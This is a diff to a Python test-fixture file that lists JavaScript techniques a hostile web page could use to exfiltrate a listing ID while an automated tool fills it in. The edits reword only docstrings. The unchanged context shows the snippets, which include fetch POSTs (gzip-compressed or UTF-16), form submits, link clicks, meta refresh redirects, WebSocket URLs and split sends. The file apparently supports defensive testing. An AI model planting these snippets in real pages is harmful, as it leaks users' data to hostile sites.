@@ -1,6 +1,7 @@
-"""Ways in which a page of ill will can send a listing while we fill. Each is JavaScript that names `path`, a path of its own.
+"""Ways in which a hostile page can send a listing while we fill. Each is JavaScript that uses `path`, a path of its own.
 
-`ID` is the listing, `here` the page's own host, `there` another site of the same server. What a way needs from before is in `PAGE`.
+`ID` is the listing, `here` the page's own host, `there` another site of the same server. `PAGE` holds what a
+way needs beforehand.
 """
 
 from __future__ import annotations
@@ -119,7 +120,7 @@ STAYS = {
     "packed": "new Response(new Blob([ID]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer().then((body) => fetch(path, { method: 'POST', body }))",
     "as wide letters": "fetch(path, { method: 'POST', body: new Uint16Array([...ID].map((digit) => digit.charCodeAt(0))) })",
 }
-"""The page goes on after it."""
+"""The page stays."""
 
 LEAVES = {
     "submit of a form": "sent(path).submit()",
@@ -130,10 +131,10 @@ LEAVES = {
     "link": "add('a', { href: `${path}?x=${ID}` }).click()",
     "address after a while": "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${path}?x=${ID}` }))",
 }
-"""It would take the page away."""
+"""The page would be left."""
 
 NOT_HELD = {
     "address of a WebSocket": "new WebSocket(`${here.replace('http', 'ws')}${path}?x=${ID}`)",
     "halves": "fetch(path, { method: 'POST', body: ID.slice(0, 8) }); fetch(path, { method: 'POST', body: ID.slice(8) })",
 }
-"""Named in docs/decisions.md with the reason."""
+"""Listed in docs/decisions.md with the reason."""
